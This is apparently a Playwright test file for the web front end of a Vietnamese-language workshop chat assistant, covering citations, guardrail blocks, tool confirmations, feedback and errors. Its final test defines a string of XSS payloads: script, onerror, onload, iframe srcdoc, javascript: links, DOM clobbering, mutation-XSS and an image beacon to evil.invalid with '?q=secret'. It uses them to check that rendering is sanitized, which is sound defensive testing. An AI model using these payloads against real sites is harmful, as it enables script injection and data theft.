"""What an answer can be: with citations, stopped by the guardrail, waiting for a yes, hostile."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Dialog, Locator, Page, expect

from tests.web.conftest import ask
from tests.web.contract_server import Body, Event, Room, done

PASSAGE = "Giờ nghỉ buổi sáng là từ 10:30\nđến 10:45 ở sảnh."
DOCUMENT = (
    "# Lịch trình\n\nBuổi sáng bắt đầu lúc 9:00.\n\nGiờ nghỉ buổi sáng là từ 10:30 đến 10:45 ở sảnh.\n\n"
    + "Một đoạn khác.\n\n" * 60
)
HOSTILE = (
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    "<svg onload=\"document.title='owned'\"></svg>"
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>"
    "<form action=/steal><input name=code></form><style>*{display:none}</style>"
    '<a href="javascript:document.title=1" id=app name=location onclick="document.title=1">raw</a>\n\n'
    "[link](javascript:document.title='owned') [data](data:text/html,owned)"
    "![picture](https://evil.invalid/?q=secret)\n\n"
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=document.title='owned'&gt;\">"
)


def answer_from(*events: Event) -> Callable[[Body], Iterator[Event]]:
    """A script that says this at once."""

    def script(body: Body) -> Iterator[Event]:
        yield from events

    return script


def searched(**passage: object) -> list[Event]:
    found = {"n": 1, "document": "vi/agenda", "title": "Lịch trình", "text": PASSAGE, **passage}
    return [
        ("tool", {"id": "u1", "name": "search_documents", "arguments": {"question": "nghỉ"}}),
        ("tool_result", {"id": "u1", "ok": True, "passages": [found]}),
    ]


def stored(markdown: str) -> Body:
    return {"document": "vi/agenda", "title": "Lịch trình", "language": "vi", "markdown": markdown}


@pytest.fixture
def cited(attendee: Page, room: Room) -> Page:
    """An answer that cites passage 1, mentions a 2 that does not exist, and has both in code, too."""
    room.documents["vi/agenda"] = stored(DOCUMENT)
    room.script = answer_from(*searched(), ("text", {"text": "Nghỉ lúc 10:30 [1], xem thêm [2] và `a[1]`."}), done())
    ask(attendee, "Khi nào nghỉ?")
    expect(attendee.locator("footer")).to_be_visible()
    return attendee


def test_a_citation_opens_the_document_at_the_passage(cited: Page) -> None:
    expect(cited.locator(".answer .cite")).to_have_text(["[1]"])
    cited.get_by_role("button", name="Nguồn 1: Lịch trình").click()
    passage = cited.get_by_role("dialog").locator("mark")
    expect(passage).to_have_text("Giờ nghỉ buổi sáng là từ 10:30 đến 10:45 ở sảnh.")
    expect(passage).to_be_in_viewport()
    expect(passage).to_be_focused()
    cited.keyboard.press("Escape")
    expect(cited.get_by_role("dialog")).to_have_count(0)
    expect(cited.locator(".cite")).to_be_focused()
    cited.locator(".sources").get_by_role("button", name="[1] Lịch trình").click()
    expect(passage).to_be_in_viewport()


def test_a_document_that_is_gone_leaves_the_passage(cited: Page, room: Room) -> None:
    room.documents.clear()
    cited.locator(".cite").click()
    dialog = cited.get_by_role("dialog")
    expect(dialog).to_contain_text("Tài liệu này đã được gỡ bỏ")
    expect(dialog.locator("blockquote")).to_contain_text("đến 10:45 ở sảnh.")


def test_a_document_that_changed_shows_both(cited: Page, room: Room) -> None:
    room.documents["vi/agenda"] = stored("# Lịch trình\n\nGiờ nghỉ là 11:00.\n")
    cited.locator(".cite").click()
    dialog = cited.get_by_role("dialog")
    expect(dialog).to_contain_text("Tài liệu đã thay đổi")
    expect(dialog.locator("blockquote")).to_contain_text("đến 10:45 ở sảnh.")
    expect(dialog.locator(".text")).to_contain_text("Giờ nghỉ là 11:00.")


def test_a_blocked_answer_is_withdrawn_and_explained(attendee: Page, room: Room) -> None:
    room.findings = [{"kind": "topic", "name": "Medical advice"}, {"kind": "new", "name": "Something"}]
    room.script = answer_from(
        ("text", {"text": "Liều dùng là"}), ("guardrail", {"action": "blocked", "side": "output"}), done("guardrail")
    )
    ask(attendee, "Tôi nên uống thuốc gì?")
    card = attendee.locator(".guardrail")
    expect(card).to_contain_text("Bộ lọc an toàn của workshop đã giữ lại câu trả lời này")
    expect(attendee.get_by_text("Liều dùng là")).to_have_count(0)
    card.get_by_role("button", name="Vì sao?").click()
    expect(card.locator("li")).to_have_text(["Chủ đề không được phép: Medical advice", "Something"])
    assert room.calls("POST", "why") == [{"conversation": list(room.conversations)[-1], "turn": room.last_turn()["id"]}]


def test_a_masked_answer_stays(attendee: Page, room: Room) -> None:
    room.script = answer_from(
        ("text", {"text": "Số là {PHONE}."}), ("guardrail", {"action": "masked", "side": "output"}), done()
    )
    ask(attendee, "Số điện thoại?")
    expect(attendee.locator(".answer")).to_have_text("Số là {PHONE}.")
    expect(attendee.locator(".guardrail")).to_have_text("Một số thông tin nhạy cảm đã được che.")


@pytest.mark.parametrize(("button", "yes"), [("Đồng ý", True), ("Không", False)])
def test_a_tool_that_needs_a_yes_waits_for_it(attendee: Page, room: Room, button: str, yes: bool) -> None:
    asked = {"id": "q1", "tool": "request_helper", "arguments": {"topic": "Không mở được Studio"}}

    def script(body: Body) -> Iterator[Event]:
        yield from (
            (("text", {"text": "Xong."}), done()) if "confirm" in body else (("confirm", asked), done("confirm"))
        )

    room.script = script
    ask(attendee, "Gọi người hỗ trợ giúp tôi")
    card = attendee.locator(".card")
    expect(card).to_contain_text("Gọi người hỗ trợ")
    expect(card).to_contain_text("Không mở được Studio")
    card.get_by_role("button", name=button, exact=True).click()
    expect(attendee.locator(".answer")).to_have_text("Xong.")
    expect(card.get_by_role("button")).to_have_count(0)
    [said] = [body for body in room.calls("POST", "chat") if "confirm" in body]
    assert said["confirm"] == {"id": "q1", "yes": yes}
    assert "text" not in said


def test_feedback_is_sent_and_can_be_taken_back(cited: Page, room: Room) -> None:
    cited.get_by_role("button", name="Chưa hữu ích").click()
    cited.get_by_label("Vì sao chưa hữu ích?").fill("Thiếu giờ chiều")
    cited.locator("footer").get_by_role("button", name="Gửi").click()
    expect(cited.get_by_text("Cảm ơn bạn.")).to_be_visible()
    cited.get_by_role("button", name="Chưa hữu ích").click()
    expect(cited.get_by_role("button", name="Chưa hữu ích")).to_have_attribute("aria-pressed", "false")
    turn = {"conversation": list(room.conversations)[-1], "turn": room.last_turn()["id"]}
    assert room.calls("POST", "feedback") == [
        {**turn, "vote": "down"},
        {**turn, "vote": "down", "reason": "Thiếu giờ chiều"},
        {**turn, "vote": "none"},
    ]


def test_a_queue_is_shown_with_the_people_ahead(attendee: Page, room: Room) -> None:
    room.script = answer_from(("queued", {"waited": 3, "ahead": 4}))
    ask(attendee, "Xin chào")
    expect(attendee.locator(".phase")).to_contain_text("đã chờ 3 giây, phía trước còn 4 người")


@pytest.mark.parametrize(
    ("code", "sentence"), [("throttled", "Mô hình đang quá tải"), ("something_new", "Máy chủ gặp lỗi")]
)
def test_an_error_in_the_stream_becomes_a_sentence_and_a_retry(
    attendee: Page, room: Room, code: str, sentence: str
) -> None:
    room.script = answer_from(("error", {"code": code, "retry": True}))
    ask(attendee, "Xin chào")
    expect(attendee.locator(".turn .problem")).to_contain_text(sentence)
    expect(attendee.get_by_role("button", name="Trả lời lại")).to_be_visible()


def test_unknown_events_and_an_unknown_price_are_no_problem(attendee: Page, room: Room) -> None:
    room.script = answer_from(
        ("weather", {"sunny": True}), ("text", {"text": "Chào bạn.", "new": 1}), done(price_vnd=None)
    )
    ask(attendee, "Xin chào")
    expect(attendee.locator("footer .note")).to_have_text("2.653 token")


def test_nothing_hostile_runs_wherever_it_stands(attendee: Page, room: Room) -> None:
    dialogs: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    attendee.on("dialog", dismissed)
    asked_for: list[str] = []
    attendee.on("request", lambda request: asked_for.append(request.url))
    room.documents["vi/agenda"] = stored(f"{HOSTILE}\n\nGiờ nghỉ.\n")
    room.messages = [{"id": "m1", "text": HOSTILE, "from": HOSTILE, "sent": "2026-11-28T03:20:00Z"}]
    room.script = answer_from(
        *searched(text="Giờ nghỉ.", title=HOSTILE),
        ("tool", {"id": "u2", "name": HOSTILE, "arguments": {HOSTILE: HOSTILE}}),
        ("tool_result", {"id": "u2", "ok": True, "text": HOSTILE}),
        ("text", {"text": f"[1] {HOSTILE}"}),
        done(),
    )
    ask(attendee, HOSTILE)
    expect(attendee.locator("footer")).to_be_visible()
    for summary in attendee.locator("summary").all():
        summary.click()
    harmless(attendee.locator("body"))
    attendee.locator(".cite").click()
    expect(attendee.get_by_role("dialog").locator("mark")).to_have_text("Giờ nghỉ.")
    harmless(attendee.locator("body"))
    assert attendee.title() == "AI/ML/GenAI on AWS"
    assert dialogs == []
    assert [url for url in asked_for if "invalid" in url] == []


def harmless(place: Locator) -> None:
    """Nothing there can run, load, send or leave."""
    expect(
        place.locator("img, script, svg, iframe, style, math, form[action], a[href^='javascript'], a[href^='data']")
    ).to_have_count(0)
    expect(place.locator("[onerror], [onload], [onclick], [style], #app #app, [name=location]")).to_have_count(0)
